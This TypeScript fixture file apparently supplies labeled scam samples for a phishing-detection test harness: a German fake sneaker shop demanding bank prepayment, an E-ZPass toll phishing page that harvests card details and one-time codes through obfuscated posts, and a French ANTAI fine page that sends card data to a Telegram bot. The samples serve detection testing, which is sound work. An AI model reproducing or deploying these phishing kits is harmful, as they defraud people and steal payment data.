import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { cssRoute, jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// ---------- German fake sneaker shop: 70-80% off, prepayment (Vorkasse) only ----------
const shopHost = 'www.sneakerlager-outlet-berlin.de';
const shopPage = `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Sneakerlager Outlet – Nike, Adidas, New Balance bis zu -80% | Räumungsverkauf</title>
<link rel="stylesheet" href="/wp-content/themes/storefront-child/style.css?ver=4.6.1">
<script>window.wc_add_to_cart_params={"ajax_url":"/wp-admin/admin-ajax.php","i18n_view_cart":"Warenkorb anzeigen"};</script>
</head>
<body class="home woocommerce-page">
<div class="promo">&#128293; RÄUMUNGSVERKAUF wegen Geschäftsaufgabe – nur noch <b id="cd">02:14:33</b> &#128293; Kostenloser Versand ab 0 €</div>
<header class="site-header"><a class="logo" href="/">SNEAKER<span>LAGER</span></a><form class="search"><input placeholder="Suche nach Marke, Modell…"></form><nav><a href="#">Herren</a><a href="#">Damen</a><a href="#">Kinder</a><a href="#">Sale</a></nav><a class="cart" href="#cart">&#128722; <span id="cc">0</span></a></header>
<main>
 <h1>Alles muss raus! Original Markenware zu Lagerpreisen</h1>
 <ul class="products" id="pl"></ul>
 <section id="cart" class="cart-box" hidden>
  <h2>Kasse</h2>
  <div id="items"></div>
  <form id="co" class="co">
   <input name="vorname" placeholder="Vorname" required><input name="nachname" placeholder="Nachname" required><input name="strasse" placeholder="Straße, Nr." required><input name="plz" placeholder="PLZ" required><input name="ort" placeholder="Ort" required><input name="email" type="email" placeholder="E-Mail" required><input name="telefon" placeholder="Telefon">
   <fieldset><legend>Zahlungsart</legend>
    <label><input type="radio" name="zahlung" value="vorkasse" checked> Vorkasse / Überweisung <b>(-5% Extra-Rabatt)</b></label>
    <label class="dis"><input type="radio" disabled> PayPal <small>(vorübergehend nicht verfügbar)</small></label>
    <label class="dis"><input type="radio" disabled> Kreditkarte <small>(Wartungsarbeiten)</small></label>
    <label class="dis"><input type="radio" disabled> Klarna Rechnung <small>(nicht verfügbar)</small></label>
   </fieldset>
   <button>Zahlungspflichtig bestellen</button>
  </form>
  <div id="done" hidden class="done"><h3>Vielen Dank für Ihre Bestellung!</h3><p>Bitte überweisen Sie den Betrag von <b id="sum"></b> innerhalb von 24 Stunden auf folgendes Konto:</p><p>Empfänger: <b>Handelshaus M. Krüger</b><br>IBAN: <b>LT62 3250 0419 8843 2207</b><br>BIC: REVOLT21<br>Verwendungszweck: <b id="vz"></b></p><p>Nach Zahlungseingang wird Ihre Ware innerhalb von 1–2 Werktagen mit DHL versendet.</p></div>
 </section>
 <section class="trust"><div>&#10004; 100% Originalware</div><div>&#10004; 30 Tage Rückgaberecht</div><div>&#10004; Trusted Shops 4,9/5</div><div>&#10004; SSL-gesichert</div></section>
</main>
<footer><p>Sneakerlager Outlet &middot; Inh. Markus Krüger &middot; Friedrichstraße 88, 10117 Berlin &middot; USt-IdNr. DE318847201 &middot; <a href="#">Impressum</a> &middot; <a href="#">AGB</a> &middot; <a href="#">Widerruf</a></p></footer>
<script src="/wp-content/themes/storefront-child/shop.js?ver=4.6.1"></script>
</body>
</html>`;
const shopCss = `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;color:#111}.promo{background:#e1001a;color:#fff;text-align:center;padding:8px;font-size:14px}
.site-header{display:flex;align-items:center;gap:20px;padding:14px 24px;border-bottom:1px solid #eee}.logo{font-weight:900;font-size:24px;text-decoration:none;color:#111}.logo span{color:#e1001a}.search input{padding:8px 12px;width:280px;border:1px solid #ccc;border-radius:20px}nav a{margin-right:14px;color:#111;text-decoration:none}.cart{margin-left:auto;color:#111}
main{max-width:1180px;margin:0 auto;padding:20px}.products{list-style:none;padding:0;display:grid;grid-template-columns:repeat(auto-fill,minmax(220px,1fr));gap:18px}
.products li{border:1px solid #eee;border-radius:6px;padding:12px;position:relative}.products .img{height:170px;background:#f4f4f4}.products .badge{position:absolute;top:10px;left:10px;background:#e1001a;color:#fff;font-weight:700;padding:2px 8px;border-radius:3px}
.old{text-decoration:line-through;color:#888;margin-right:6px}.new{color:#e1001a;font-weight:700;font-size:18px}.products button{width:100%;margin-top:8px;background:#111;color:#fff;border:0;padding:9px}
.cart-box{border:2px solid #111;padding:18px;margin:26px 0}.co{display:grid;grid-template-columns:1fr 1fr;gap:8px}.co input{padding:9px;border:1px solid #bbb}.co fieldset,.co button{grid-column:span 2}.co button{background:#e1001a;color:#fff;border:0;padding:12px;font-size:16px}.dis{color:#999;display:block}
.done{background:#f3fff3;border:1px solid #8c8;padding:14px}.trust{display:flex;gap:20px;justify-content:center;font-size:14px;color:#333;margin:30px 0}footer{background:#111;color:#aaa;font-size:12px;text-align:center;padding:20px}footer a{color:#ddd}`;
const shopJs = `(function(){var P=[['Nike Air Jordan 1 Retro High OG',189.99,39.95],['Nike Dunk Low Panda',119.99,29.95],['Adidas Yeezy Boost 350 V2',239.99,49.95],['New Balance 550 White Green',139.99,34.95],['Nike Air Max 90',149.99,32.95],['Adidas Samba OG',109.99,27.95],['Asics Gel-Kayano 14',169.99,36.95],['Nike Air Force 1 07',119.99,24.95]];
var ul=document.getElementById('pl'),cart=[];P.forEach(function(p,i){var li=document.createElement('li');li.innerHTML='<span class="badge">-'+Math.round(100-p[2]/p[1]*100)+'%</span><div class="img"></div><h3>'+p[0]+'</h3><span class="old">'+p[1].toFixed(2).replace('.',',')+' €</span><span class="new">'+p[2].toFixed(2).replace('.',',')+' €</span><p style="font-size:12px;color:#e1001a">Nur noch '+(2+i%3)+' auf Lager!</p><button data-i="'+i+'">In den Warenkorb</button>';ul.appendChild(li)});
ul.addEventListener('click',function(e){var i=e.target.dataset.i;if(i===undefined)return;cart.push(P[i]);document.getElementById('cc').textContent=cart.length;var c=document.getElementById('cart');c.hidden=false;document.getElementById('items').innerHTML=cart.map(function(p){return p[0]+' – '+p[2].toFixed(2).replace('.',',')+' €'}).join('<br>')});
var end=Date.now()+8073000;setInterval(function(){var s=Math.max(0,(end-Date.now())/1000|0);document.getElementById('cd').textContent=[s/3600|0,(s/60|0)%60,s%60].map(function(n){return('0'+n).slice(-2)}).join(':')},1000);
document.getElementById('co').addEventListener('submit',function(e){e.preventDefault();var sum=cart.reduce(function(a,p){return a+p[2]},0)*0.95,o={};new FormData(this).forEach(function(v,k){o[k]=v});o.items=cart.map(function(p){return p[0]});o.sum=sum.toFixed(2);
var vz='SL-'+Math.floor(1e5+Math.random()*9e5);o.vz=vz;fetch('/wp-admin/admin-ajax.php?action=sl_order',{method:'POST',body:new URLSearchParams({data:JSON.stringify(o)})});
document.getElementById('sum').textContent=sum.toFixed(2).replace('.',',')+' €';document.getElementById('vz').textContent=vz;this.hidden=true;document.getElementById('done').hidden=false})})();`;

// ---------- E-ZPass style unpaid toll (SMS lure) asking for card ----------
const tollHost = 'ezpass-ny.toll-balance-due.com';
const tollPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>E-ZPass New York – Pay Outstanding Toll</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f2f2;color:#222}
.hd{background:#5b2c86;color:#fff;padding:14px 18px;display:flex;align-items:center;gap:12px}.hd b{font-size:20px}.hd .ez{background:#fff;color:#5b2c86;font-weight:900;padding:4px 8px;border-radius:4px}
.c{max-width:520px;margin:20px auto;background:#fff;border-radius:6px;box-shadow:0 1px 6px rgba(0,0,0,.1);padding:22px}
.alert{background:#fdecea;border-left:4px solid #c62828;padding:10px;font-size:14px;margin-bottom:16px}
.kv{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:8px 0;font-size:14px}
.tot{font-size:20px;font-weight:700}
label{display:block;font-size:13px;margin:12px 0 4px;color:#444}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:4px;font-size:15px}
.two{display:flex;gap:10px}.two div{flex:1}
button{margin-top:18px;width:100%;padding:13px;background:#5b2c86;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700}
.stp{display:none}.stp.on{display:block}.f{text-align:center;font-size:11px;color:#888;padding:16px}
.spin{width:36px;height:36px;border:4px solid #ddd;border-top-color:#5b2c86;border-radius:50%;animation:s 1s linear infinite;margin:20px auto}@keyframes s{to{transform:rotate(360deg)}}
</style>
</head>
<body>
<div class="hd"><span class="ez">E-ZPass</span><b>New York Customer Service Center</b></div>
<div class="c">
 <div class="stp on" id="a">
  <div class="alert"><b>Final Notice:</b> Our records show an unpaid toll balance on your vehicle. To avoid a late fee of $50.00 and possible suspension of your vehicle registration by the DMV, please pay by <b id="due"></b>.</div>
  <div class="kv"><span>Notice #</span><b>TV-22091847</b></div>
  <div class="kv"><span>Facility</span><span>Verrazzano-Narrows Bridge</span></div>
  <div class="kv"><span>Toll amount</span><span>$4.15</span></div>
  <div class="kv"><span>Service fee</span><span>$2.84</span></div>
  <div class="kv tot"><span>Total due</span><span>$6.99</span></div>
  <label>License plate</label><input id="pl" placeholder="e.g. KJR4821">
  <label>ZIP code</label><input id="zp" inputmode="numeric" maxlength="5">
  <button onclick="nx('b')">Continue to payment</button>
 </div>
 <div class="stp" id="b">
  <h3>Payment information</h3>
  <label>Name on card</label><input id="nm" autocomplete="cc-name">
  <label>Card number</label><input id="cn" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="•••• •••• •••• ••••">
  <div class="two"><div><label>Expiry (MM/YY)</label><input id="ex" maxlength="5" placeholder="MM/YY"></div><div><label>CVV</label><input id="cv" maxlength="4" inputmode="numeric"></div></div>
  <label>Billing address</label><input id="ad">
  <label>Phone</label><input id="ph" type="tel">
  <button id="pay">Pay $6.99</button>
 </div>
 <div class="stp" id="c"><div class="spin"></div><p style="text-align:center">Processing payment, please wait…</p></div>
 <div class="stp" id="d">
  <h3>Verify your card</h3><p>Your bank has sent a one-time verification code to the phone number on file. Enter it to authorize the payment.</p>
  <input id="otp" inputmode="numeric" maxlength="8"><button id="vf">Verify</button>
 </div>
</div>
<div class="f">© 2025 E-ZPass New York. All rights reserved. Privacy Policy | Terms of Use</div>
<script src="/pay/app.js"></script>
</body>
</html>`;
const tollJs = `(function(){var d=new Date(Date.now()+2*864e5);document.getElementById('due').textContent=d.toLocaleDateString('en-US');
window.nx=function(id){document.querySelectorAll('.stp').forEach(function(s){s.classList.remove('on')});document.getElementById(id).classList.add('on')};
if(!/Mobi|Android|iPhone/i.test(navigator.userAgent)&&!/debug/.test(location.search)){/* desktop visitors still see the page; operators log them */fetch('/pay/log?d=1')}
var k=[0x4b,0x7a,0x31];function x(s){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k[i%3]);return btoa(unescape(encodeURIComponent(o)))}
function v(i){return document.getElementById(i).value}
document.getElementById('cn').oninput=function(){this.value=this.value.replace(/\\D/g,'').replace(/(\\d{4})(?=\\d)/g,'$1 ')};
document.getElementById('pay').onclick=function(){var p={plate:v('pl'),zip:v('zp'),name:v('nm'),cc:v('cn'),exp:v('ex'),cvv:v('cv'),addr:v('ad'),phone:v('ph'),ua:navigator.userAgent};
nx('c');fetch('/pay/api/submit.php',{method:'POST',headers:{'Content-Type':'text/plain'},body:x(JSON.stringify(p))}).finally(function(){setTimeout(function(){nx('d')},2500)})};
document.getElementById('vf').onclick=function(){fetch('/pay/api/otp.php',{method:'POST',headers:{'Content-Type':'text/plain'},body:x(JSON.stringify({otp:v('otp'),cc:v('cn')}))}).finally(function(){location.href='https://www.e-zpassny.com/'})};})();`;

// ---------- French: ANTAI speeding fine "avis de contravention" asking for card ----------
const antaiHost = 'antai-gouv.amendes-paiement-fr.com';
const antaiPage = `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>ANTAI – Paiement de votre amende forfaitaire</title>
<link rel="stylesheet" href="/dsfr/dsfr.min.css">
</head>
<body>
<header class="hdr"><div class="mar"><span>RÉPUBLIQUE<br>FRANÇAISE</span><small>Liberté<br>Égalité<br>Fraternité</small></div><div class="svc"><b>ANTAI</b><span>Agence Nationale de Traitement Automatisé des Infractions</span></div></header>
<div class="fil">Accueil &rsaquo; Payer une amende &rsaquo; Avis de contravention</div>
<main>
 <h1>Avis de contravention – Majoration imminente</h1>
 <div class="warn">Vous n’avez pas réglé l’amende forfaitaire relative à l’infraction ci-dessous. Sans paiement sous <b>48 heures</b>, le montant sera majoré à <b>375 €</b> et transmis au Trésor public pour recouvrement forcé (saisie sur compte bancaire).</div>
 <table class="t"><tr><th>N° d’avis</th><td>2025 4471 0938 21</td></tr><tr><th>Nature</th><td>Excès de vitesse &lt; 20 km/h (hors agglomération)</td></tr><tr><th>Lieu</th><td>A7 – PK 143, Drôme (26)</td></tr><tr><th>Date</th><td id="dt"></td></tr><tr><th>Montant</th><td><b>35,00 €</b> (minoré)</td></tr></table>
 <form id="f" class="frm">
  <h2>Paiement sécurisé par carte bancaire</h2>
  <label>Nom et prénom<input name="nom" required></label>
  <label>Date de naissance<input name="ddn" placeholder="JJ/MM/AAAA"></label>
  <label>Adresse e-mail<input name="mail" type="email"></label>
  <label>Téléphone mobile<input name="tel"></label>
  <label>Numéro de carte<input name="cb" inputmode="numeric" maxlength="19" required></label>
  <div class="row"><label>Expiration<input name="exp" placeholder="MM/AA" required></label><label>Cryptogramme<input name="cvv" maxlength="3" required></label></div>
  <button>Payer 35,00 €</button>
  <p class="sm">Paiement sécurisé – Direction générale des Finances publiques. Vos données sont chiffrées.</p>
 </form>
 <div id="ok" hidden class="ok">Votre paiement est en cours de validation. Une authentification 3-D Secure peut vous être demandée par votre banque.</div>
</main>
<footer>legifrance.gouv.fr · service-public.fr · gouvernement.fr · Mentions légales · Accessibilité : non conforme</footer>
<script>
(function(){var d=new Date(Date.now()-12*864e5);document.getElementById('dt').textContent=d.toLocaleDateString('fr-FR')+' à 14h37';
var T='7798233410:AAGx1v4Qp_9sYtLnR2mWcE8kZ0dJhF5uB3o',C='-1002415566731';
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var o=[];new FormData(this).forEach(function(v,k){o.push(k.toUpperCase()+': '+v)});
o.push('IP-UA: '+navigator.userAgent);var u='https://api.telegram.org/bot'+T+'/sendMessage?chat_id='+C+'&text='+encodeURIComponent('\\u{1F697} ANTAI CC\\n'+o.join('\\n'));
new Image().src=u;fetch('/dsfr/log.php',{method:'POST',body:new URLSearchParams({d:o.join('|')})});this.hidden=true;document.getElementById('ok').hidden=false;setTimeout(function(){location.href='https://www.antai.gouv.fr/'},5000)})})();
</script>
</body>
</html>`;
const antaiCss = `body{margin:0;font-family:Marianne,Arial,sans-serif;color:#161616}.hdr{display:flex;align-items:center;gap:24px;padding:14px 28px;box-shadow:0 2px 6px rgba(0,0,18,.16)}.mar span{font-weight:700;font-size:13px;line-height:1.1;display:block}.mar small{font-size:10px;font-style:italic;display:block;margin-top:4px}
.svc b{font-size:20px;display:block}.svc span{font-size:13px;color:#3a3a3a}.fil{font-size:12px;color:#666;padding:10px 28px}main{max-width:760px;margin:0 auto;padding:0 20px 40px}
.warn{background:#ffe9e6;border-left:4px solid #ce0500;padding:12px 16px;margin:14px 0}.t{width:100%;border-collapse:collapse;margin:12px 0}.t th{text-align:left;background:#f6f6f6;width:160px}.t th,.t td{padding:8px;border:1px solid #ddd}
.frm{border:1px solid #ddd;padding:20px}.frm label{display:block;margin:10px 0;font-size:14px}.frm input{display:block;width:100%;box-sizing:border-box;padding:9px;border:0;border-bottom:2px solid #3a3a3a;background:#eee;margin-top:4px}.row{display:flex;gap:12px}.row label{flex:1}
.frm button{background:#000091;color:#fff;border:0;padding:12px 24px;font-size:16px;margin-top:12px}.sm{font-size:11px;color:#666}.ok{background:#b8fec9;padding:14px}footer{border-top:1px solid #ddd;font-size:12px;color:#666;padding:16px 28px}`;

export const entries: Entry[] = [
  {
    id: 'e-scam-fakeshop-sneaker-vorkasse-de',
    label: 'scam',
    kind: 'fake-shop',
    url: `https://${shopHost}/`,
    body: shopPage,
    routes: {
      [`${shopHost}/wp-content/themes/storefront-child/style.css`]: cssRoute(shopCss),
      [`${shopHost}/wp-content/themes/storefront-child/shop.js`]: jsRoute(shopJs),
      [`${shopHost}/wp-admin/admin-ajax.php`]: jsonRoute({ success: true }),
    },
  },
  {
    id: 'e-scam-toll-unpaid-card',
    label: 'scam',
    kind: 'fake-toll',
    url: 'https://e-zpassny.com-tolls.info/us',
    routes: {
      'e-zpassny.com-tolls.info/us': redirectRoute(302, `https://${tollHost}/pay/?notice=TV-22091847`),
      [`${tollHost}/pay/`]: htmlRoute(tollPage),
      [`${tollHost}/pay/app.js`]: jsRoute(tollJs),
      [`${tollHost}/pay/log`]: { status: 204, headers: {}, body: '' },
      [`${tollHost}/pay/api/submit.php`]: jsonRoute({ s: 1 }),
      [`${tollHost}/pay/api/otp.php`]: jsonRoute({ s: 1 }),
    },
  },
  {
    id: 'e-scam-amende-antai-fr',
    label: 'scam',
    kind: 'fake-fine',
    url: `https://${antaiHost}/paiement/avis.php?ref=2025447109382`,
    body: antaiPage,
    routes: {
      [`${antaiHost}/dsfr/dsfr.min.css`]: cssRoute(antaiCss),
      [`${antaiHost}/dsfr/log.php`]: jsonRoute({ ok: 1 }),
      [`${antaiHost}/favicon.ico`]: pngRoute(0, 0, 145),
    },
  },
];
